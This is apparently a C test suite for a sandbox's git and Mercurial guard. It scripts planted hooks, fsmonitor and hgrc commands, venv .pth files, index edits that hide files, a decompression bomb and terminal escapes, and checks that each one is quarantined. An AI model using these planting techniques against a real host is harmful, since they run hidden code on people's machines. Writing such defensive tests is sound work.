 * was spent by a 4.6 MB loose file that inflates to 1 GiB, in a fan-out
 * directory readdir lists before the target's: the rewritten loose
 * object of HEAD:app.py after it was only named ("not verified") and
 * stayed. Loose objects go smallest declared size first, and one whose
 * header declares more than is left of the bound moves aside without
 * being inflated: both move aside, the session's commit stays.
 */
static void test_loose_bound_bomb(void)
{
	static const char *const want[] = {
		"quarantined ", ": a loose object rewritten in the session: its content does not hash",
		"whose header declares 1073741825 bytes, past the 1073741824 the check inflates in one run: moved aside "
		"unverified", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > bomb.py <<'EOF'\n"
				 "import os, sys, zlib\n"
				 "t = sys.argv[1]; od = '.git/objects'\n"
				 "def order(): return [d for d in os.listdir(od) if len(d) == 2]\n"
				 "first = None\n"
				 "for cand in ['%02x' % i for i in range(256)]:\n"
				 "    os.makedirs(os.path.join(od, cand), exist_ok=True)\n"
				 "    o = order()\n"
				 "    if t[:2] in o and o.index(cand) < o.index(t[:2]): first = cand; break\n"
				 "    if cand != t[:2] and not os.listdir(os.path.join(od, cand)): os.rmdir(os.path.join(od, cand))\n"
				 "n = (1 << 30) + 1\n"
				 "c = zlib.compressobj(1); z = bytearray(c.compress(b'blob %d\\0' % n))\n"
				 "chunk = bytes(1 << 20)\n"
				 "for _ in range(n >> 20): z += c.compress(chunk)\n"
				 "z += c.compress(b'\\0' * (n & ((1 << 20) - 1))); z += c.flush()\n"
				 "open(os.path.join(od, first, '0' * 38), 'wb').write(z)\n"
				 "d = b'print(\"planted\")\\n'\n"
				 "f = os.path.join(od, t[:2], t[2:]); os.chmod(f, 0o644)\n"
				 "open(f, 'wb').write(zlib.compress(b'blob %d\\0' % len(d) + d))\n"
				 "EOF\n"
				 "cd work && echo 'print(\"hello\")' > app.py && git add app.py && git commit -q -m app",
				 NULL, NULL,
				 "python3 \"$M/../bomb.py\" $(git rev-parse HEAD:app.py) && git archive HEAD app.py | tar -xO && "
				 "echo doc > README && git add README && git commit -q -m doc && echo DONE",
				 "cd work && git archive HEAD app.py 2>&1 | tar -xO 2>&1; git hash-object -w app.py >/dev/null && "
				 "git archive HEAD | tar -xO README app.py") == 0);
	CU_ASSERT(test_has(c.out, "print(\"planted\")\nDONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "not verified"));
	CU_ASSERT(!test_has(c.host, "planted"));
	CU_ASSERT(test_has(c.host, "doc\nprint(\"hello\")\n"));
	if (test_has(c.host, "planted") || !test_has(c.host, "doc\nprint(\"hello\")\n"))
		show(&c);
	gcase_free(&c);
}

/*
 * Review of round 34 (A1, A5): past the bounds, what the session wrote
 * was only named ("not verified") and stayed. With the bound lowered to
 * 100 bytes (PASSAVANT_SBX_OBJ_BYTES_MAX, passavant's own environment),
 * a 300-byte blob and a pack the session wrote move aside, each with a
 * line saying how to get it back; nothing is named "not verified".
 */
static void test_object_bound_fails_closed(void)
{
	static const char *const want[] = {
		"quarantined ", "past the 100 the check inflates in one run: moved aside unverified",
		"past the 100 bytes of packs the check verifies in one run, moved aside unverified",
		"git index-pack --verify pack-", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	extra_env = "PASSAVANT_SBX_OBJ_BYTES_MAX=100";
	CU_ASSERT_FATAL(run_case(&c, "cd work && seq 1 80 > big && git add big && git commit -q -m big", NULL, NULL,
				 "seq 1000 1080 | git hash-object -w --stdin && git repack -q && echo DONE",
				 "cd work && ls .git/objects/pack | grep -c 'pack$'") == 0);
	extra_env = NULL;
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "not verified"));
	CU_ASSERT(test_has(c.host, "0\n"));
	gcase_free(&c);
}

/* Round 33: .git/shallow written in the session cut the history the
 * host's git log showed (the commit before it hidden, as grafts do):
 * named. */
static void test_shallow_written(void)
{
	static const char *const want[] = {"look at ", "/work/.git/shallow: written in the session", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "cd work && git commit -q --allow-empty -m a && git commit -q --allow-empty -m b",
				 NULL, NULL, "git rev-parse HEAD~1 > .git/shallow && git log --oneline | wc -l && echo DONE",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	gcase_free(&c);
}

/*
 * Round 33: an untracked cache (the index's UNTR extension, which git
 * status uses whenever the index holds one) written in the session with
 * a new tests/conftest.py taken out of its directory's list: the host's
 * git status did not show it. Fsmonitor data (FSMN) likewise, for a host
 * with core.fsmonitor. The index moves aside and a copy without them is
 * put in place: conftest.py shows, the staged file stays staged.
 */
static void test_index_untracked_fsmonitor(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > untr.py <<'EOF'\n"
				 "import hashlib\n"
				 "b = bytearray(open('.git/index', 'rb').read())\n"
				 "body = b[:-20]\n"
				 "off, n = 12, int.from_bytes(b[8:12], 'big')\n"
				 "for _ in range(n):\n"
				 "    nl = body.index(b'\\0', off + 62)\n"
				 "    off += (nl - off + 8) & ~7\n"
				 "while off + 8 <= len(body):\n"
				 "    sig, sz = bytes(body[off:off + 4]), int.from_bytes(body[off + 4:off + 8], 'big')\n"
				 "    if sig == b'UNTR':\n"
				 "        old = b'\\x01\\x00tests\\x00conftest.py\\x00'\n"
				 "        ext = body[off + 8:off + 8 + sz]\n"
				 "        assert old in ext\n"
				 "        ext = ext.replace(old, b'\\x00\\x00tests\\x00')\n"
				 "        body = body[:off + 4] + len(ext).to_bytes(4, 'big') + ext + body[off + 8 + sz:]\n"
				 "        break\n"
				 "    off += 8 + sz\n"
				 "open('.git/index', 'wb').write(body + hashlib.sha1(body).digest())\n"
				 "EOF\n"
				 "printf '#!/bin/sh\\nprintf \"tok\\\\0/\\\\0\"\\n' > fsm.sh && chmod +x fsm.sh && "
				 "cd work && mkdir tests && echo a > tests/a.py && git add tests && git commit -q -m a && "
				 "git init -q n && echo x > n/x && git -C n add x && git -C n commit -q -m x",
				 NULL, NULL,
				 "echo b > b.py && git add b.py && echo 'import os' > tests/conftest.py && "
				 "git -c core.untrackedCache=true -c index.recordEndOfIndexEntries=false status --short && "
				 "sleep 1.1 && python3 \"$M/../untr.py\" && echo \"hidden: $(git status --short | grep -c conftest)\"; "
				 "git -C n -c core.fsmonitor=\"$M/../fsm.sh\" status --short && echo DONE",
				 "git -C work status --short; grep -c FSMN work/n/.git/index") == 0);
	CU_ASSERT(test_has(c.out, "?? tests/conftest.py") && test_has(c.out, "hidden: 0\n"));
	if (!test_has(c.out, "hidden: 0\n"))
		show(&c);
	CU_ASSERT(test_has(c.out, "DONE"));
	/* the index is rewritten without them (gitindex.c): the host's git
	 * status shows it; what was staged stays staged */
	CU_ASSERT(test_has(c.host, "A  b.py") && test_has(c.host, "?? tests/conftest.py") && test_has(c.host, "\n0\n"));
	if (!test_has(c.host, "?? tests/conftest.py") || !test_has(c.host, "A  b.py") || !test_has(c.host, "\n0\n"))
		show(&c);
	gcase_free(&c);
}

/* Round 33: extensions.refStorage (reftable: a git that knows it reads
 * every ref, replace refs among them, from binary tables the check does
 * not read) set in the session was on the allowlist: the config now
 * moves aside. */
static void test_ref_storage(void)
{
	static const char *const want[] = {"/work/n/.git/config: ", "extensions.refstorage", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "cd work && git init -q n && git -C n commit -q --allow-empty -m n", NULL, NULL,
				 "git -C n config extensions.refStorage reftable && echo DONE", NULL) == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!exists(&c, "work/n/.git/config"));
	gcase_free(&c);
}

/* Round 32 (b7 family): info/exclude given rules in the session hid a
 * new file from git status; moved aside, it shows. (The top repository's
 * info/ is read-only in the session: a nested one.) */
static void test_exclude_rules(void)
{
	static const char *const want[] = {"/work/n/.git/info/exclude: info/exclude given rules", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "cd work && git init -q n && git -C n commit -q --allow-empty -m n", NULL, NULL,
				 "echo 'hidden.py' >> n/.git/info/exclude && echo 'print(1)' > n/hidden.py && echo DONE",
				 "git -C work/n status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, "?? hidden.py"));
	if (!test_has(c.host, "?? hidden.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 32 (b7b, b4, b4b): what git ignores. A tests/.gitignore of "*"
 * written in the session hid itself and a new tests/conftest.py: named,
 * with the file. A venv older than the session: its bin/activate
 * rewritten moves aside, a .pth and a module edited in its site-packages
 * are named; a venv made in the session is one line. An unchanged
 * .gitignore says nothing.
 */
static void test_ignored_writes(void)
{
	static const char *const want[] = {
		"/work/tests/.gitignore for planted programs: written in the session", "conftest.py",
		"quarantined ", "/work/.venv/bin/activate: a virtual environment's activation script",
		"/work/.venv for planted programs: a Python environment (a venv, a conda environment or a prefix "
		"of that layout; git ignores it) with files",
		"lib/python3.99/site-packages/_x.pth", "lib/python3.99/site-packages/pkg/__init__.py", "bin/pip",
		"bin/pytest", "/work/nv for planted programs: a Python environment made in the session", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && mkdir tests && echo 'def test_ok(): pass' > tests/test_a.py && "
				 "printf '.venv/\\nnv/\\n' > .gitignore && git add . && git commit -q -m t && "
				 "mkdir -p .venv/bin .venv/lib/python3.99/site-packages/pkg && "
				 "echo 'home = /usr/bin' > .venv/pyvenv.cfg && echo '# activate' > .venv/bin/activate && "
				 "echo '#!/bin/sh' > .venv/bin/pip && echo '#!/bin/sh' > .venv/bin/old-tool && "
				 "echo x > .venv/lib/python3.99/site-packages/pkg/__init__.py && "
				 "echo y > .venv/lib/python3.99/site-packages/old.py",
				 NULL, NULL,
				 "printf '*\\n' > tests/.gitignore && echo 'import os' > tests/conftest.py && "
				 "echo 'touch x' >> .venv/bin/activate && echo 'touch y' >> .venv/bin/pip && "
				 "echo '#!/bin/sh' > .venv/bin/pytest && "
				 "echo 'import os' > .venv/lib/python3.99/site-packages/_x.pth && "
				 "echo '#' >> .venv/lib/python3.99/site-packages/pkg/__init__.py && "
				 "mkdir nv && echo 'home = /usr/bin' > nv/pyvenv.cfg && echo DONE",
				 "git -C work status --short --untracked-files=all") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!exists(&c, "work/.venv/bin/activate"));
	CU_ASSERT(!test_has(c.err, "/work/.gitignore"));
	CU_ASSERT(!test_has(c.err, "old.py") && !test_has(c.err, "old-tool"));
	if (exists(&c, "work/.venv/bin/activate") || test_has(c.err, "/work/.gitignore") || test_has(c.err, "old.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 30 of the attack: a write lease on the repository's own
 * .git/config held while the check runs (the attacker kept one past the
 * session through an SCM_RIGHTS cycle; seccomp now refuses F_SETLEASE in
 * the sandbox, so the host side takes it here). The check's O_NONBLOCK
 * read fails with EWOULDBLOCK and git blocks on the open: the config is
 * reported as not read, with a status that is not 0. The old check took
 * the failed read for "nothing to follow": status 0, no line, and the
 * planted core.fsmonitor in the config it includes stayed.
 */
static const char lease_driver[] =
	"import fcntl, os, signal, subprocess, sys, time\n"
	"signal.signal(signal.SIGIO, signal.SIG_IGN)\n"
	"p = subprocess.Popen([sys.argv[1], 'run', '--', 'sh', '-c',\n"
	"    'printf \"[core]\\\\n\\\\tfsmonitor = touch planted-ran\\\\n\" >> tools/git.cfg && touch ready && '\n"
	"    'while [ ! -e go ]; do sleep 0.05; done'], stderr=subprocess.PIPE)\n"
	"t0 = time.monotonic()\n"
	"while not os.path.exists('ready') and time.monotonic() - t0 < 20:\n"
	"    time.sleep(0.05)\n"
	"fd = os.open('.git/config', os.O_RDONLY)\n"
	"fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)\n"
	"print('lease taken', flush=True)\n"
	"open('go', 'w').close()\n"
	"err = p.communicate(timeout=50)[1].decode()\n"
	"print('status', p.returncode)\n"
	"print(err)\n"
	"os.close(fd)\n";

static void test_lease_on_kept_config(void)
{
	char drv[PATH_MAX + 16], cmd[2 * PATH_MAX + 64], *out = NULL;
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	if (!driver_case(&c, "lease.py", lease_driver, sizeof(lease_driver) - 1, drv, sizeof(drv)))
		return;
	CU_ASSERT_FATAL(host_sh(&c, c.dir,
				"git init -q work && mkdir work/tools && printf '[alias]\\n\\tst = status\\n' > "
				"work/tools/git.cfg && git -C work config include.path ../tools/git.cfg && "
				"git -C work add tools && git -C work commit -q -m init && echo ok",
				&out) == 0 &&
			test_has(out, "ok"));
	free(out);
	out = NULL;
	snprintf(cmd, sizeof(cmd), "cd work && python3 ../lease.py '%s' 2>&1", test_passavant_bin());
	CU_ASSERT_FATAL(host_sh(&c, c.dir, cmd, &c.host) == 0);
	ok = test_has(c.host, "lease taken") && test_has(c.host, "status 1\n") &&
	     test_has(c.host, "/work/.git/config for planted programs: ") &&
	     test_has(c.host, "what it includes and its core.hooksPath were not checked") &&
	     test_has(c.host, "1 file the check had to read to follow what it names could not be read") &&
	     !exists(&c, "work/planted-ran");
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (c4): three blind spots of the environment look, each a .pth
 * the host's next python of that environment runs. (a) site-packages
 * (and, in a second venv, lib/) made a link inside the tree: the old
 * walk's O_NOFOLLOW open failed and it said nothing; a link out of the
 * tree is named too. (b) a venv of more than 50,000 entries, the .pth
 * given a name readdir returns last: the old walk stopped and said so
 * only when it had found something before the cut. (c) a conda-style
 * environment (conda-meta/, no pyvenv.cfg) and a bare prefix
 * (bin/python3, lib/python3.X/site-packages) were no venv to the check;
 * conda's activate.d script and a conda environment's own
 * sitecustomize.py run on the host as well. A venv deeper than the
 * walk goes, nothing written: the bound is said (the old walk stopped
 * there in silence).
 */
static void test_env_walk_gaps(void)
{
	static const char *const want[] = {
		"/work/.venv for planted programs: a Python environment", "lib/python3.99/site-packages/zz_a.pth",
		"/work/.v2 for planted programs: a Python environment", "lib/python3.99/site-packages/zz_a2.pth",
		"/work/.v3 for planted programs: a Python environment",
		"lib/python3.99/site-packages/ext (a link out of the writable tree, not looked into)",
		"/work/.v4 for planted programs: a Python environment", "the look stopped after 50000 entries",
		"/work/.conda for planted programs: a Python environment", "lib/python3.99/site-packages/zz_c.pth",
		"etc/conda/activate.d/zz.sh", "lib/python3.99/sitecustomize.py", "etc/jupyter/jupyter_server_config.py",
		"share/jupyter/kernels/k/kernel.json",
		"/work/pfx for planted programs: a Python environment", "lib/python3.99/site-packages/zz_d.pth",
		"/work/.v5 for planted programs: a Python environment (a venv, a conda environment or a prefix of "
		"that layout; git ignores it) too large or deep to look at whole",
		"(directories deeper than 16 below lib/ were not looked into)", NULL};
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir ext && cd work && printf '.venv/\\n.v2/\\n.v3/\\n.v4/\\n.v5/\\n.conda/\\npfx/\\n' > .gitignore && "
				 "git add . && git commit -q -m t && "
				 "for v in .venv .v2 .v3 .v4 .v5; do mkdir -p $v/bin $v/lib/python3.99/site-packages && "
				 "echo 'home = /usr/bin' > $v/pyvenv.cfg; done && "
				 "ln -s ../../../../../ext .v3/lib/python3.99/site-packages/ext && "
				 "mkdir -p .v5/lib/python3.99/site-packages/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d && "
				 "mkdir .v4/lib/python3.99/site-packages/bigpkg && (cd .v4/lib/python3.99/site-packages/bigpkg "
				 "&& seq 1 50001 | sed 's/$/.py/' | xargs touch) && "
				 "mkdir -p .conda/conda-meta .conda/bin .conda/etc/conda/activate.d .conda/etc/jupyter "
				 ".conda/share/jupyter/kernels/k "
				 ".conda/lib/python3.99/site-packages && touch .conda/conda-meta/history && "
				 "echo 'import os' > .conda/lib/python3.99/site.py && "
				 "mkdir -p pfx/bin pfx/lib/python3.99/site-packages && ln -s /usr/bin/python3 pfx/bin/python3 && "
				 "echo ok",
				 NULL, NULL,
				 "P='import os' && cd .venv/lib/python3.99 && mv site-packages sp.d && "
				 "ln -s sp.d site-packages && echo \"$P\" > sp.d/zz_a.pth && cd ../../.. && "
				 "mv .v2/lib .v2/lib.d && ln -s lib.d .v2/lib && "
				 "echo \"$P\" > .v2/lib.d/python3.99/site-packages/zz_a2.pth && "
				 "cd .v4/lib/python3.99/site-packages && i=0; while :; do i=$((i+1)); n=_v$i.pth; touch $n; "
				 "[ \"$(ls -f | tail -1)\" = \"$n\" ] && break; rm $n; [ $i -gt 400 ] && break; done; "
				 "echo \"$P\" > $n && cd ../../../.. && "
				 "echo \"$P\" > .conda/lib/python3.99/site-packages/zz_c.pth && "
				 "echo 'touch x' > .conda/etc/conda/activate.d/zz.sh && "
				 "echo \"$P\" > .conda/etc/jupyter/jupyter_server_config.py && "
				 "echo '{\"argv\": [\"sh\"]}' > .conda/share/jupyter/kernels/k/kernel.json && "
				 "echo \"$P\" > .conda/lib/python3.99/sitecustomize.py && "
				 "echo \"$P\" > pfx/lib/python3.99/site-packages/zz_d.pth && echo DONE",
				 "git -C work status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* the .pth readdir returns last in .v4 is named, found before the
	 * cut (the top of site-packages is read before its packages) */
	ok = test_has(c.err, "lib/python3.99/site-packages/_v") && !test_has(c.err, "python3.99/site.py") &&
	     !test_has(c.err, "/work/.conda for planted programs: a Python environment made");
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 34 (d1): a tracked file DELETED in the session and its entry
 * marked skip-worktree (or assume-unchanged), a tracked package removed
 * whole under a sparse directory entry: host git showed no deletion
 * (status, diff, commit -a) and the check judged a marked entry only
 * when its file was there. Such an index moves aside; a sparse checkout
 * set up before the session keeps its absent entries (sp), but for a
 * file removed from a directory it holds (sq).
 */
static void test_index_hides_deletion(void)
{
	static const char *const want[] = {
		"/work/.git/index: an index marking 2 files the session changed or removed",
		"/work/w2/.git/index: an index with a sparse directory entry (helpers/)",
		"/work/sq/.git/index: an index marking 1 file the session changed or removed", NULL};
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 GI_PY "cd work && echo u > util.py && echo a > app.py && git add . && git commit -q -m u && "
				       "git init -q w2 && mkdir w2/helpers && echo h > w2/helpers/__init__.py && "
				       "git -C w2 add . && git -C w2 commit -q -m h && "
				       "for r in sp sq; do git init -q $r && mkdir $r/a $r/b && echo x > $r/a/x && "
				       "echo y > $r/b/y && git -C $r add . && git -C $r commit -q -m ab && "
				       "git -C $r sparse-checkout set a || exit 1; done; test ! -e sp/b",
				 NULL, NULL,
				 "rm util.py && git update-index --skip-worktree util.py && "
				 "rm app.py && git update-index --assume-unchanged app.py && "
				 "rm -r w2/helpers && "
				 "python3 \"$M/../gi.py\" w2/.git/index sparsedir helpers $(git -C w2 rev-parse HEAD:helpers) && "
				 "echo n > sp/a/n && git -C sp add a/n && "
				 "rm sq/a/x && git -C sq update-index --skip-worktree a/x && echo DONE",
				 "cd work && git reset -q; git status --short; git -C w2 reset -q; git -C w2 status --short; "
				 "git -C sp status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	ok = test_has(c.host, " D util.py") && test_has(c.host, " D app.py") &&
	     test_has(c.host, " D helpers/__init__.py") && test_has(c.host, "A  a/n") && !test_has(c.host, "b/y") &&
	     !test_has(c.err, "/work/sp/.git/index") && exists(&c, "work/sp/.git/index");
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 34 (d10, d10b, d10c): checks keyed on an entry's own ctime
 * missed a directory renamed into place, whose entries keep their old
 * ctimes. pytest's .pytest_cache (a .gitignore of "*") renamed to utils/
 * with a utils/__init__.py beside the tracked utils.py; an extension
 * module staged in one session with no source beside it, the package's
 * sources moved in and its directory renamed to pkg/ in the next; a
 * copy of a venv's site-packages with a .pth staged in one session and
 * swapped in by renames in the next. Each is named (or moved aside) in
 * the session that renamed; the project's own .gitignore, in a root the
 * session wrote in, says nothing.
 */
static void test_dir_renamed_into_place(void)
{
	static const char *const want[] = {
		"/work/utils/.gitignore for planted programs: new at this place in the session", "__init__.py",
		"/work/pkg/util.cpython-399.so: an extension module beside its NAME.py",
		"/work/.venv for planted programs: a Python environment",
		"lib/python3.99/site-packages/zz-evil.pth", NULL};
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && printf '*.so\\n.venv/\\nstage/\\n' > .gitignore && "
				 "echo 'def greet(): pass' > utils.py && echo 'import utils' > app.py && mkdir pkg && "
				 "echo 'def greet(): pass' > pkg/util.py && : > pkg/__init__.py && git add . && "
				 "git commit -q -m t && mkdir -p .pytest_cache/v/cache && "
				 "printf '# Created by pytest automatically.\\n*\\n' > .pytest_cache/.gitignore && "
				 "echo '# pytest cache directory #' > .pytest_cache/README.md && "
				 "mkdir -p .venv/lib/python3.99/site-packages && echo 'home = /usr/bin' > .venv/pyvenv.cfg && "
				 "echo y > .venv/lib/python3.99/site-packages/old.py",
				 NULL, NULL,
				 "mkdir staging && echo so > staging/util.cpython-399.so && "
				 "cp -a .venv/lib/python3.99/site-packages stage && "
				 "echo 'import os' > stage/zz-evil.pth && echo DONE1",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "DONE1"));
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL,
				     "mv .pytest_cache utils && echo 'import os' > utils/__init__.py && "
				     "mv pkg/util.py pkg/__init__.py staging/ && rmdir pkg && mv staging pkg && "
				     "mv .venv/lib/python3.99/site-packages .venv/lib/python3.99/sp.old && "
				     "mv stage .venv/lib/python3.99/site-packages && echo DONE2") == 0);
	CU_ASSERT(test_has(c.out, "DONE2"));
	expect_safe(&c, want);
	ok = !exists(&c, "work/pkg/util.cpython-399.so") && exists(&c, "work/pkg/util.py") &&
	     !test_has(c.err, "/work/.gitignore");
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 34 of the attack (d3): Mercurial 5.7 and later reads a second
 * repository config on every command, .hg/hgrc-not-shared, in any
 * repository. It was no row: written in the session with a [hooks]
 * pre-status, the host's next `hg status` ran it. Now a row like
 * .hg/hgrc: not writable at the top (.hg exists there), moved aside in a
 * nested repository.
 */
static void test_hg_config_not_shared(void)
{
	static const char *const want[] = {"/work/h/.hg/hgrc-not-shared: Mercurial repository settings", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	if (access("/usr/bin/hg", X_OK) != 0) {
		TEST_SKIP("no Mercurial (/usr/bin/hg)");
		return;
	}
	CU_ASSERT_FATAL(run_case(&c, "cd work && hg init . && hg init h", NULL, NULL,
				 "printf '[hooks]\\npre-status = touch %s/top\\n' \"$M\" > .hg/hgrc-not-shared "
				 "2>/dev/null && echo TOP-WRITTEN; "
				 "printf '[hooks]\\npre-status = touch %s/nested\\n' \"$M\" > h/.hg/hgrc-not-shared && "
				 "echo DONE",
				 "cd work && hg status >/dev/null 2>&1; cd h && hg status >/dev/null 2>&1; echo host-done") ==
			0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(!test_has(c.out, "TOP-WRITTEN"));
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/h/.hg/hgrc-not-shared.passavant-quarantine"));
	if (test_has(c.out, "TOP-WRITTEN"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 34 of the attack (d9): the Mercurial member of round 32's HEAD
 * escapes. .hg/branch written in the session as "default" + OSC 52 (the
 * host's clipboard) and .hg/bookmarks with an escape after a name: `hg
 * branch`, `hg bookmarks` and the prompts that show them printed them
 * raw. Both move aside; hg then says "default".
 */
static void test_hg_prompt_controls(void)
{
	static const char *const want[] = {"/work/h/.hg/branch: a Mercurial branch name holding control characters",
					   "/work/h/.hg/bookmarks: a Mercurial bookmark or topic file holding control",
					   NULL};
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	if (access("/usr/bin/hg", X_OK) != 0) {
		TEST_SKIP("no Mercurial (/usr/bin/hg)");
		return;
	}
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && hg init h && cd h && echo x > a && hg add -q a && hg commit -q -u t -m init && "
				 "hg bookmark -q bm && hg bookmark -q -i",
				 NULL, NULL,
				 "cd h && printf 'default\\033]52;c;eA==\\007\\n' > .hg/branch && "
				 "printf '%s bm\\033[2J\\n' \"$(cut -d' ' -f1 .hg/bookmarks)\" > .hg/bookmarks.new && "
				 "mv .hg/bookmarks.new .hg/bookmarks && echo DONE",
				 "cd work/h && hg branch; hg branch | od -c | grep -c 033; hg bookmarks | od -c | grep -c 033") ==
			0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	ok = c.host != NULL && strcmp(c.host, "default\n0\n0\n") == 0;
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 34 of the attack (d4): the Mercurial member of round 32's
 * .gitignore. A repository without a .hgignore; the session writes one
 * that ignores itself and a new tests/conftest.py (pytest loads it): hg
 * status and hg diff were clean, nothing said. The .hgignore is named
 * with what the session wrote below it.
 */
static void test_hgignore_written(void)
{
	static const char *const want[] = {"/work/h/.hgignore for planted programs: written in the session: hg status does not show",
					   "tests/conftest.py", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	if (access("/usr/bin/hg", X_OK) != 0) {
		TEST_SKIP("no Mercurial (/usr/bin/hg)");
		return;
	}
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && hg init h && mkdir h/tests && echo 'def test_ok(): pass' > h/tests/test_a.py && "
				 "cd h && hg add -q tests && hg commit -q -u t -m init && sleep 1.1",
				 NULL, NULL,
				 "cd h && echo 'import os' > tests/conftest.py && "
				 "printf 'syntax: glob\\n.hgignore\\ntests/conftest.py\\n' > .hgignore && echo DONE",
				 "cd work/h && hg status; echo host-done") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* only what the session wrote is named, not the tracked test */
	CU_ASSERT(!test_has(c.err, "test_a.py"));
	gcase_free(&c);
}

/*
 * Round 34 (d3's family): a kept .hg/hgrc that includes a team file in
 * the work tree ("%include ../team.rc", as git's include.path): the
 * session writes [hooks] there (and a second include the hgrc names
 * that did not exist): the host's next hg status ran them. Both move
 * aside, at the top (where .hg/hgrc itself is read-only) and nested;
 * the kept hgrc stays.
 */
static void test_hg_include_written(void)
{
	static const char *const want[] = {"/work/team.rc: a file a Mercurial repository config includes",
					   "/work/h/conf/new.rc: a file a Mercurial repository config includes", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	if (access("/usr/bin/hg", X_OK) != 0) {
		TEST_SKIP("no Mercurial (/usr/bin/hg)");
		return;
	}
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && hg init . && hg init h && printf '%%include ../team.rc\\n' > .hg/hgrc && "
				 "echo '[ui]' > team.rc && mkdir h/conf && "
				 "printf '[ui]\\n%%include ../conf/old.rc\\n%%include ../conf/new.rc\\n' > h/.hg/hgrc && "
				 "echo '[ui]' > h/conf/old.rc && sleep 1.1",
				 NULL, NULL,
				 "printf '[hooks]\\npre-status = touch %s/top\\n' \"$M\" >> team.rc && "
				 "printf '[hooks]\\npre-status = touch %s/nested\\n' \"$M\" > h/conf/new.rc && echo DONE",
				 "cd work && hg status >/dev/null 2>&1; cd h && hg status >/dev/null 2>&1; echo host-done") ==
			0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* the kept include the session left alone stays; so does the
	 * kept .hg/hgrc at the top, which the mount plan covered (it was
	 * moved aside after every session: the plan's placeholders in .hg
	 * made the directory look new) */
	CU_ASSERT(exists(&c, "work/h/conf/old.rc") && !test_has(c.err, "old.rc"));
	CU_ASSERT(exists(&c, "work/.hg/hgrc") && !test_has(c.err, "/work/.hg/hgrc"));
	gcase_free(&c);
}

TEST_REGISTRAR(register_gitguard)
{
	CU_pSuite s = test_suite("gitguard", suite_init, suite_cleanup);

	test_add(s, "repro a: planted commondir (config, hooks)", test_commondir);
	test_add(s, "repro b: nested repository, gitlink; .git/modules", test_nested_repo);
	test_add(s, "core.hooksPath; hooks of a new repository", test_hooks_path);
	test_add(s, "the user's core.hooksPath and include.path: targets rewritten", test_user_hooks_path);
	test_add(s, "the global config's include and hooksPath into the work tree", test_global_config_reach);
	test_add(s, "a relative core.hooksPath of the global config: hooks written there moved aside",
		 test_global_relative_hooks);
	test_add(s, "round 35 (e5): a relative core.excludesFile / core.attributesFile (global or the repository's): "
		    "the file written at the work tree's top moved aside",
		 test_global_relative_rules);
	test_add(s, "the hooksPath of the repository a writable subdirectory is in", test_enclosing_repo);
	test_add(s, "a git directory staged over two sessions (no HEAD, then HEAD)", test_staged_gitdir);
	test_add(s, "a settings file staged under a harmless directory, renamed into place later", test_staged_settings_dir);
	test_add(s, "a git directory assembled over two sessions, activated by a .git file", test_activated_gitdir);
	test_add(s, "a directory that became a git directory in the session counts as new whole",
		 test_became_gitdir);
	test_add(s, "core.worktree: a submodule's own only, pointing into its superproject", test_modules_worktree);
	test_add(s, "links and FIFOs inside a git directory (reflog, FETCH_HEAD, a linked logs/refs)",
		 test_links_in_gitdir);
